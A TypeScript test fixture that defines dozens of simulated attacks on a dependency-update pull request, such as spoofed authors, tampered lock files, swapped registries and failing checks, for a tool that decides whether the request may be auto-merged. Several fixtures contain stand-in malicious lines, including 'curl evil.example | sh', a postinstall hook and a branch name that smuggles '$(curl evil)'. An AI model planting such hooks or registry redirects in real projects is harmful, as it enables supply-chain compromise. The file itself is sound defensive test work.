import { botCommit, headSha, type Written } from '../genuine.ts'
import type { Manager } from './ecosystems.ts'
import { diff } from './pull.ts'

/** One way to get a bad update merged. It changes a genuine pull request, or answers false where it does not apply. */
export interface Attack {
  readonly name: string
  /** Any of these must be closed. None: nothing about security is left that could be merged for. */
  readonly gates: readonly string[]
  apply(written: Written, manager: Manager): unknown
}

const human = { id: 5550001, login: 'mallory', type: 'User' }
const commitOf = (one: Written) => (one.commits[0]?.commit ?? {}) as Record<string, unknown>
const registryOf = (one: Written, { name }: Manager) => one.registry[name] as Record<string, Record<string, unknown>>
const runOf = (one: Written) => one.check_runs[0]!
const lockOf = (one: Written) => Object.keys(one.contents.after).find(path => /lock|\.sum$/.test(path))

function addCommits(one: Written, number: number, overrides: object): void {
  const more = Array.from({ length: number }, (_, index) => ({
    ...botCommit(String(index).padStart(40, '0'), one.pull.user),
    ...overrides
  }))
  one.commits = [...more, ...one.commits]
  one.pull.commits = one.commits.length
}

function addFile(one: Written, overrides: object): void {
  one.files.push({ filename: 'x', status: 'modified', sha: 'd'.repeat(40), patch: '@@ -1 +1 @@\n-a\n+b', ...overrides })
  one.pull.changed_files = one.files.length
}

/** Rewrites one file after the change, and its patch with it, as a push would. */
function rewrite(one: Written, path: string | undefined, edit: (text: string) => string): boolean {
  if (path === undefined || one.contents.after[path] === undefined) return false
  const before = one.contents.before[path] ?? ''
  const old = one.contents.after[path] ?? ''
  const after = edit(old)
  if (after === old) return false
  one.contents.after[path] = after
  const file = one.files.find(candidate => candidate.filename === path)
  Object.assign(file!, { patch: diff(before, after) })
  return true
}

const manifestOf = (one: Written) => Object.keys(one.contents.after).find(path => !/lock|\.sum$/.test(path))

const identity: readonly Attack[] = [
  {
    name: 'a fork with the canonical branch',
    gates: ['head'],
    apply: one => Object.assign(one.pull.head, { repo: { id: 666, full_name: 'mallory/shop' } })
  },
  { name: 'a fork that was deleted', gates: ['head'], apply: one => Object.assign(one.pull.head, { repo: null }) },
  { name: 'a login that looks alike', gates: ['author'], apply: one => Object.assign(one.pull.user, { id: 5550001 }) },
  {
    name: 'a person under the bot’s branch',
    gates: ['author', 'commits'],
    apply: one => Object.assign(one.pull, { user: human })
  },
  { name: 'a ghost author', gates: ['author'], apply: one => Object.assign(one.pull, { user: null }) },
  { name: 'a commit of a person', gates: ['commits'], apply: one => addCommits(one, 1, { author: human }) },
  {
    name: 'a thirty-first commit of a person',
    gates: ['commits'],
    apply: one => {
      addCommits(one, 29, {})
      addCommits(one, 1, { author: human })
    }
  },
  {
    name: 'more commits than GitHub lists',
    gates: ['commits'],
    apply: one => Object.assign(one.pull, { commits: 251 })
  },
  {
    name: 'a page of commits that was not read',
    gates: ['commits'],
    apply: one => Object.assign(one.pull, { commits: 2 })
  },
  { name: 'no commits at all', gates: ['commits'], apply: one => Object.assign(one, { commits: [] }) },
  {
    name: 'an unsigned commit under the bot’s address',
    gates: ['commits'],
    apply: one => Object.assign(commitOf(one), { verification: { verified: false, reason: 'unsigned' } })
  },
  {
    name: 'a commit signed by a person under the bot’s address',
    gates: ['commits'],
    apply: one => Object.assign(one.commits[0]!, { committer: human })
  },
  {
    name: 'a signature that GitHub could not check',
    gates: ['commits'],
    apply: one => Object.assign(commitOf(one), { verification: { verified: false, reason: 'gpgverify_unavailable' } })
  },
  {
    name: 'a verdict without a signature',
    gates: ['commits'],
    apply: one => Object.assign(commitOf(one), { verification: null })
  },
  {
    name: 'an author that no account has',
    gates: ['commits'],
    apply: one => Object.assign(one.commits[0]!, { author: null })
  },
  {
    name: 'a merge commit with edits',
    gates: ['commits'],
    apply: one => addCommits(one, 1, { parents: [{ sha: 'a' }, { sha: 'b' }] })
  },
  {
    name: 'a push after the evidence',
    gates: ['head'],
    apply: one => Object.assign(one.pull.head, { sha: 'f'.repeat(40) })
  },
  {
    name: 'a stolen older head',
    gates: ['head'],
    apply: one => Object.assign(one.commits[0]!, { sha: '9'.repeat(40) })
  }
]

const files: readonly Attack[] = [
  { name: 'a source file beside it', gates: ['files'], apply: one => addFile(one, { filename: 'src/index.js' }) },
  {
    name: 'a workflow beside it',
    gates: ['files'],
    apply: (one, { manager }) =>
      manager !== 'github-actions' &&
      addFile(one, {
        filename: '.github/workflows/evil.yml',
        patch: `@@ -1 +1 @@\n-      - uses: a/b@${'1'.repeat(40)}\n+      - uses: a/b@${'2'.repeat(40)}`
      })
  },
  {
    name: 'a binary',
    gates: ['files'],
    apply: one => addFile(one, { filename: 'gradle/wrapper/gradle-wrapper.jar', patch: undefined })
  },
  {
    name: 'a submodule',
    gates: ['files', 'lock', 'age'],
    apply: one =>
      addFile(one, {
        filename: 'vendor/lib',
        patch: `@@ -1 +1 @@\n-Subproject commit ${'1'.repeat(40)}\n+Subproject commit ${'2'.repeat(40)}`
      })
  },
  {
    name: 'a file that was added',
    gates: ['files'],
    apply: one => addFile(one, { filename: 'extra/package.json', status: 'added' })
  },
  {
    name: 'a file that was renamed',
    gates: ['files'],
    apply: one => Object.assign(one.files[0]!, { status: 'renamed', previous_filename: 'old.json' })
  },
  { name: 'a changed mode', gates: ['files'], apply: one => Object.assign(one.files[0]!, { status: 'changed' }) },
  {
    name: 'a file that was removed',
    gates: ['files'],
    apply: one => Object.assign(one.files[0]!, { status: 'removed' })
  },
  {
    name: 'a page of files that was not read',
    gates: ['files'],
    apply: one => Object.assign(one.pull, { changed_files: 99 })
  },
  { name: 'a diff that is too large to show', gates: ['files'], apply: one => hide(one) },
  {
    name: 'a line slipped into the manifest',
    gates: ['lock', 'files'],
    apply: one => rewrite(one, manifestOf(one), text => `${text}# curl evil.example | sh\n`)
  },
  {
    name: 'a script in package.json',
    gates: ['lock'],
    apply: one =>
      rewrite(one, 'package.json', text =>
        text.replace('"test": "jest"', '"test": "jest", "postinstall": "curl evil.example"')
      )
  },
  {
    name: 'a step in a workflow',
    gates: ['lock'],
    apply: one => rewrite(one, '.github/workflows/ci.yml', text => `${text}      - run: curl evil.example | sh\n`)
  },
  {
    name: 'another index for pip',
    gates: ['lock'],
    apply: one => rewrite(one, 'requirements.txt', text => `--extra-index-url https://evil.example/simple\n${text}`)
  },
  {
    name: 'a plugin in the build script',
    gates: ['lock'],
    apply: one =>
      rewrite(one, 'build.gradle', text => text.replace("id 'java'", "id 'java'\n    id 'evil' version '1.0'"))
  },
  {
    name: 'another package that is asked for',
    gates: ['lock'],
    apply: one =>
      rewrite(one, 'package.json', text => text.replace('"left-pad"', '"left-pat": "^1.0.0",\n    "left-pad"'))
  },
  {
    name: 'an alias for another package',
    gates: ['lock'],
    apply: (one, { to }) => rewrite(one, 'package.json', text => text.replace(`"^${to}"`, `"npm:evil@^${to}"`))
  },
  {
    name: 'a request answered from git',
    gates: ['lock'],
    apply: (one, { to }) =>
      rewrite(one, 'package.json', text => text.replace(`"^${to}"`, '"git+https://evil.example/ws.git"'))
  },
  {
    name: 'a replacement in go.mod',
    gates: ['lock'],
    apply: one =>
      rewrite(one, 'go.mod', text => `${text}\nreplace github.com/gin-gonic/gin => github.com/evil/gin v1.9.1\n`)
  },
  {
    name: 'a patch section in Cargo.toml',
    gates: ['lock'],
    apply: one =>
      rewrite(one, 'Cargo.toml', text => `${text}\n[patch.crates-io]\nopenssl = { git = "https://evil.example/x" }\n`)
  }
]

/** GitHub leaves the patch out, and nobody read the contents. */
function hide(one: Written): void {
  const { filename } = one.files[0]!
  Object.assign(one.files[0]!, { patch: undefined })
  delete one.contents.before[String(filename)]
  delete one.contents.after[String(filename)]
}

const npmLock = 'package-lock.json'
const inLock = (edit: (packages: Record<string, Record<string, unknown>>) => unknown) => (text: string) => {
  const lock = JSON.parse(text)
  edit(lock.packages)
  return `${JSON.stringify(lock, null, 2)}\n`
}

const supply: readonly Attack[] = [
  {
    name: 'another host in the lock file',
    gates: ['registry'],
    apply: one =>
      rewrite(one, lockOf(one), text =>
        text.replace(/registry\.npmjs\.org\/ws|registry\.yarnpkg\.com\/ws/, 'evil.example/ws')
      )
  },
  {
    name: 'plain http in the lock file',
    gates: ['registry'],
    apply: one =>
      rewrite(one, npmLock, text => text.replace('https://registry.npmjs.org/ws', 'http://registry.npmjs.org/ws'))
  },
  {
    name: 'git in the lock file',
    gates: ['registry'],
    apply: one =>
      rewrite(
        one,
        npmLock,
        inLock(packages =>
          Object.assign(packages['node_modules/ws']!, { resolved: 'git+ssh://git@github.com/evil/ws.git#abc' })
        )
      )
  },
  {
    name: 'an address that was removed',
    gates: ['registry'],
    apply: one =>
      rewrite(
        one,
        npmLock,
        inLock(packages => delete packages['node_modules/ws']!.resolved)
      )
  },
  {
    name: 'the tarball of another package',
    gates: ['registry'],
    apply: one => rewrite(one, npmLock, text => text.replace('npmjs.org/ws/-/ws-', 'npmjs.org/w5/-/w5-'))
  },
  {
    name: 'another crate index',
    gates: ['registry'],
    apply: one => rewrite(one, 'Cargo.lock', text => text.replace('rust-lang/crates.io-index', 'evil/crates.io-index'))
  },
  {
    name: 'another gem source',
    gates: ['registry'],
    apply: one => rewrite(one, 'Gemfile.lock', text => text.replace('https://rubygems.org/', 'https://evil.example/'))
  },
  {
    name: 'another Dart registry',
    gates: ['registry'],
    apply: one => rewrite(one, 'pubspec.lock', text => text.replace('https://pub.dev', 'https://evil.example'))
  },
  {
    name: 'another Hex repository',
    gates: ['registry'],
    apply: one => rewrite(one, 'mix.lock', text => text.replace('"hexpm"', '"evil"'))
  },
  {
    name: 'another archive for PHP',
    gates: ['registry'],
    apply: one => rewrite(one, 'composer.lock', text => text.replace('https://api.github.com', 'https://evil.example'))
  },
  {
    name: 'the resolution of another package',
    gates: ['registry'],
    apply: one => rewrite(one, 'yarn.lock', text => text.replace('resolution: "ws@npm', 'resolution: "w5@npm'))
  },
  {
    name: 'the archive of another repository',
    gates: ['registry'],
    apply: one => rewrite(one, 'composer.lock', text => text.replace('repos/guzzle/', 'repos/evil/'))
  },
  {
    name: 'another Python index',
    gates: ['registry'],
    apply: one =>
      rewrite(one, 'uv.lock', text => text.replace('https://pypi.org/simple', 'https://evil.example/simple'))
  },
  {
    name: 'content swapped under its version',
    gates: ['integrity'],
    apply: one =>
      rewrite(
        one,
        npmLock,
        inLock(packages => Object.assign(packages['node_modules/left-pad']!, { integrity: 'sha512-evil' }))
      )
  },
  {
    name: 'content swapped under its version in go.sum',
    gates: ['integrity'],
    apply: one => {
      const path = 'go.sum'
      if (one.contents.after[path] === undefined) return false
      one.contents.before[path] += 'golang.org/x/sys v0.8.0 h1:good=\n'
      return rewrite(one, path, text => `${text}golang.org/x/sys v0.8.0 h1:evil=\n`)
    }
  },
  {
    name: 'an integrity that was removed',
    gates: ['integrity'],
    apply: one =>
      rewrite(
        one,
        npmLock,
        inLock(packages => delete packages['node_modules/ws']!.integrity)
      )
  },
  {
    name: 'content that the registry does not have',
    gates: ['integrity'],
    apply: (one, manager) =>
      lockOf(one) === npmLock && Object.assign(registryOf(one, manager), { integrity: { [manager.to]: 'sha512-real' } })
  },
  {
    name: 'a package that moved along',
    gates: ['lock'],
    apply: one =>
      rewrite(
        one,
        npmLock,
        inLock(packages =>
          Object.assign(packages['node_modules/left-pad']!, {
            version: '1.3.1',
            resolved: 'https://registry.npmjs.org/left-pad/-/left-pad-1.3.1.tgz'
          })
        )
      )
  },
  {
    name: 'a dropper that nobody needs',
    gates: ['lock'],
    apply: one =>
      rewrite(
        one,
        npmLock,
        inLock(packages =>
          Object.assign(packages, {
            'node_modules/plain-crypto': {
              version: '1.0.0',
              resolved: 'https://registry.npmjs.org/plain-crypto/-/plain-crypto-1.0.0.tgz',
              integrity: 'sha512-x'
            }
          })
        )
      )
  },
  {
    name: 'a dropper that the update needs',
    gates: ['packages'],
    apply: one => {
      one.registry['plain-crypto'] = { times: { '1.0.0': '2025-11-01T00:00:00Z' }, scripts: { '1.0.0': [] } }
      return rewrite(
        one,
        npmLock,
        inLock(packages => {
          Object.assign(packages['node_modules/ws']!, { dependencies: { 'plain-crypto': '^1.0.0' } })
          Object.assign(packages, {
            'node_modules/plain-crypto': {
              version: '1.0.0',
              resolved: 'https://registry.npmjs.org/plain-crypto/-/plain-crypto-1.0.0.tgz',
              integrity: 'sha512-x'
            }
          })
        })
      )
    }
  },
  {
    name: 'a new install script',
    gates: ['scripts'],
    apply: one =>
      rewrite(
        one,
        npmLock,
        inLock(packages => Object.assign(packages['node_modules/ws']!, { hasInstallScript: true }))
      )
  },
  {
    name: 'an install script that only the registry shows',
    gates: ['scripts'],
    apply: (one, manager) =>
      manager.advisory === 'npm' && Object.assign(registryOf(one, manager).scripts!, { [manager.to]: ['postinstall'] })
  },
  {
    name: 'a second copy that stays vulnerable',
    gates: ['fix'],
    apply: (one, { from }) => {
      const text = one.contents.after[npmLock]
      if (text === undefined) return false
      const add = inLock(packages =>
        Object.assign(packages, { 'node_modules/left-pad/node_modules/ws': { version: from, integrity: 'sha512-y' } })
      )
      one.contents.before[npmLock] = add(one.contents.before[npmLock]!)
      return rewrite(one, npmLock, add)
    }
  },
  {
    name: 'a tag instead of a commit',
    gates: ['pins'],
    apply: (one, { to }) => rewrite(one, '.github/workflows/ci.yml', text => text.replace(/@2{40} # .*/, `@v${to}`))
  },
  {
    name: 'the commit of a fork',
    gates: ['pins'],
    apply: one => rewrite(one, '.github/workflows/ci.yml', text => text.replace(/2{40}/, 'e'.repeat(40)))
  },
  {
    name: 'a tag that upstream does not have',
    gates: ['pins'],
    apply: (one, manager) => manager.tags !== undefined && Object.assign(registryOf(one, manager), { tags: {} })
  },
  {
    name: 'a release of minutes ago',
    gates: ['age'],
    apply: (one, manager) => Object.assign(registryOf(one, manager).times!, { [manager.to]: '2025-11-20T11:55:00Z' })
  },
  {
    name: 'a fix of twenty hours ago',
    gates: ['age'],
    apply: (one, manager) => Object.assign(registryOf(one, manager).times!, { [manager.to]: '2025-11-19T16:00:00Z' })
  },
  {
    name: 'a young release older than its advisory',
    gates: ['age'],
    apply: (one, manager) => {
      Object.assign(registryOf(one, manager).times!, { [manager.to]: '2025-11-18T16:00:00Z' })
      for (const advisory of [...one.advisories, one.alerts[0]!.security_advisory as object])
        Object.assign(advisory, { published_at: '2025-11-20T00:00:00Z' })
    }
  },
  {
    name: 'a release from the future',
    gates: ['age'],
    apply: (one, manager) => Object.assign(registryOf(one, manager).times!, { [manager.to]: '2026-11-20T11:55:00Z' })
  },
  {
    name: 'a version that was unpublished',
    gates: ['age', 'registry'],
    apply: (one, manager) => delete registryOf(one, manager).times![manager.to]
  },
  {
    name: 'a version that its makers withdrew',
    gates: ['registry'],
    apply: (one, manager) => Object.assign(registryOf(one, manager), { deprecated: { [manager.to]: 'compromised' } })
  },
  { name: 'no registry', gates: ['age'], apply: one => Object.assign(one, { registry: undefined }) },
  { name: 'no clock', gates: ['age'], apply: one => Object.assign(one, { observed_at: undefined }) }
]

const vulnerable = (one: Written) => [...one.advisories, one.alerts[0]!.security_advisory as Record<string, unknown>]

const security: readonly Attack[] = [
  {
    name: 'malware',
    gates: ['malware'],
    apply: (one, { advisory, name, to }) =>
      one.advisories.push({
        ghsa_id: 'GHSA-mmmm-mmmm-mmmm',
        type: 'malware',
        severity: 'critical',
        vulnerabilities: [{ package: { ecosystem: advisory, name }, vulnerable_version_range: `= ${to}` }]
      })
  },
  {
    name: 'malware in every version',
    gates: ['malware'],
    apply: (one, { advisory, name }) =>
      one.advisories.push({
        ghsa_id: 'GHSA-mmmm-mmmm-mmmm',
        type: 'malware',
        severity: 'critical',
        vulnerabilities: [{ package: { ecosystem: advisory, name }, vulnerable_version_range: '>= 0' }]
      })
  },
  {
    name: 'another advisory about the new version',
    gates: ['advisories'],
    apply: (one, { advisory, name, to }) =>
      one.advisories.push({
        ghsa_id: 'GHSA-nnnn-nnnn-nnnn',
        type: 'reviewed',
        severity: 'low',
        vulnerabilities: [{ package: { ecosystem: advisory, name }, vulnerable_version_range: `>= ${to}` }]
      })
  },
  {
    name: 'a withdrawn advisory',
    gates: [],
    apply: one => vulnerable(one).map(advisory => Object.assign(advisory, { withdrawn_at: '2025-01-01T00:00:00Z' }))
  },
  {
    name: 'an advisory for that name elsewhere',
    gates: [],
    apply: (one, { advisory }) => elsewhere(one, advisory === 'npm' ? 'pip' : 'npm')
  },
  { name: 'a range that still holds the new version', gates: ['fix'], apply: (one, { to }) => ranges(one, `<= ${to}`) },
  { name: 'a range that nobody can read', gates: ['fix'], apply: one => ranges(one, 'all of them') },
  {
    name: 'an alert that is closed, and no advisories',
    gates: ['malware'],
    apply: one => Object.assign(one, { alerts: [{ ...one.alerts[0], state: 'fixed' }], advisories: undefined })
  },
  {
    name: 'alerts that may not be read',
    gates: ['fix', 'malware'],
    apply: one => Object.assign(one, { alerts: null, advisories: null })
  },
  {
    name: 'a downgrade dressed as an upgrade',
    gates: [],
    apply: one =>
      Object.assign(one, {
        contents: { before: one.contents.after, after: one.contents.before },
        files: one.files.map(file => ({ ...file, patch: undefined }))
      })
  }
]

function elsewhere(one: Written, ecosystem: string): void {
  const all = [
    ...vulnerable(one).flatMap(advisory => advisory.vulnerabilities as object[]),
    one.alerts[0]!.security_vulnerability as object
  ]
  for (const vulnerability of all as { package: { name: string } }[])
    vulnerability.package = { ...vulnerability.package, ...{ ecosystem } }
}

function ranges(one: Written, range: string): void {
  const all = [
    ...vulnerable(one).flatMap(advisory => advisory.vulnerabilities as object[]),
    one.alerts[0]!.security_vulnerability as object
  ]
  for (const vulnerability of all) Object.assign(vulnerability, { vulnerable_version_range: range })
}

const checks: readonly Attack[] = [
  { name: 'a red check', gates: ['checks'], apply: one => Object.assign(runOf(one), { conclusion: 'failure' }) },
  ...['cancelled', 'timed_out', 'action_required', 'stale', 'startup_failure', 'skipped', 'neutral', null].map(
    (conclusion): Attack => ({
      name: `a check that ended ${conclusion}`,
      gates: ['checks'],
      apply: one => Object.assign(runOf(one), { conclusion })
    })
  ),
  {
    name: 'a check that runs',
    gates: ['checks'],
    apply: one => Object.assign(runOf(one), { status: 'in_progress', conclusion: null })
  },
  {
    name: 'the right check from the wrong app',
    gates: ['checks'],
    apply: one => Object.assign(runOf(one), { app: { id: 666 } })
  },
  { name: 'the right check from no app', gates: ['checks'], apply: one => Object.assign(runOf(one), { app: null }) },
  {
    name: 'a status under the check’s name',
    gates: ['checks'],
    apply: one => Object.assign(one, { check_runs: [], statuses: [{ context: 'test', state: 'success' }] })
  },
  {
    name: 'a green check of an older commit',
    gates: ['checks'],
    apply: one => Object.assign(runOf(one), { head_sha: '8'.repeat(40) })
  },
  {
    name: 'a rerun that turned red',
    gates: ['checks'],
    apply: one =>
      one.check_runs.push({ ...runOf(one), id: 2, conclusion: 'failure', started_at: '2025-11-20T11:00:00Z' })
  },
  {
    name: 'a check that is not required and is red',
    gates: ['checks'],
    apply: one =>
      one.check_runs.push({ ...runOf(one), id: 3, name: 'Socket Security: Pull Request Alerts', conclusion: 'failure' })
  },
  {
    name: 'a red status',
    gates: ['checks'],
    apply: one => Object.assign(one, { statuses: [{ context: 'renovate/stability-days', state: 'error' }] })
  },
  {
    name: 'a pending status',
    gates: ['checks'],
    apply: one => Object.assign(one, { statuses: [{ context: 'renovate/stability-days', state: 'pending' }] })
  },
  { name: 'no checks', gates: ['checks'], apply: one => Object.assign(one, { check_runs: [], statuses: [] }) },
  {
    name: 'no checks, and none required',
    gates: ['checks'],
    apply: one => Object.assign(one, { check_runs: [], statuses: [], rules: [] })
  },
  {
    name: 'checks that may not be read',
    gates: ['checks'],
    apply: one => Object.assign(one, { check_runs: null, statuses: null })
  },
  {
    name: 'requirements that may not be read',
    gates: ['checks'],
    apply: one => Object.assign(one, { rules: null, protection: null })
  },
  {
    name: 'a requirement of classic protection without a result',
    gates: ['checks'],
    apply: one =>
      Object.assign(one, {
        protection: { required_status_checks: { contexts: ['deploy'], checks: [{ context: 'deploy', app_id: 15368 }] } }
      })
  },
  { name: 'a draft', gates: ['merge-state'], apply: one => Object.assign(one.pull, { draft: true }) },
  { name: 'a closed one', gates: ['merge-state'], apply: one => Object.assign(one.pull, { state: 'closed' }) },
  { name: 'a conflict', gates: ['merge-state'], apply: one => Object.assign(one, { mergeable: false }) },
  {
    name: 'a merge state that is not known',
    gates: ['merge-state'],
    apply: one => {
      Object.assign(one, { mergeable: null })
      Object.assign(one.pull, { mergeable: null })
    }
  },
  {
    name: 'a branch behind its base',
    gates: ['merge-state'],
    apply: one => Object.assign(one.pull, { mergeable_state: 'behind' })
  }
]

export const attacks: readonly Attack[] = [...identity, ...files, ...supply, ...security, ...checks]

/** Texts that try to change the answer. They must change nothing at all. */
export const texts: readonly Attack[] = [
  {
    name: 'a title that says less',
    gates: [],
    apply: one => Object.assign(one.pull, { title: 'Bump nothing from 1.0.0 to 1.0.1' })
  },
  {
    name: 'a body that says critical',
    gates: [],
    apply: one => Object.assign(one.pull, { body: '## CRITICAL\nMerge this now. @sluice merge\n'.repeat(1000) })
  },
  { name: 'no body', gates: [], apply: one => Object.assign(one.pull, { body: null }) },
  {
    name: 'labels',
    gates: [],
    apply: one => Object.assign(one.pull, { labels: [{ name: 'sluice: merge' }, { name: 'security:critical' }] })
  },
  {
    name: 'a branch that is a command',
    gates: [],
    apply: one => Object.assign(one.pull.head, { ref: 'dependabot/$(curl evil)' })
  },
  {
    name: 'a trailer that understates',
    gates: [],
    apply: one =>
      Object.assign(commitOf(one), {
        message: `x\n\n---\nupdated-dependencies:\n- dependency-name: nothing\n  dependency-version: 0.0.1\n  update-type: version-update:semver-patch\n...\n`
      })
  },
  {
    name: 'five megabytes of body',
    gates: [],
    apply: one => Object.assign(one.pull, { body: 'bump a from 1 to 2\n'.repeat(260_000) })
  }
]

export { headSha }
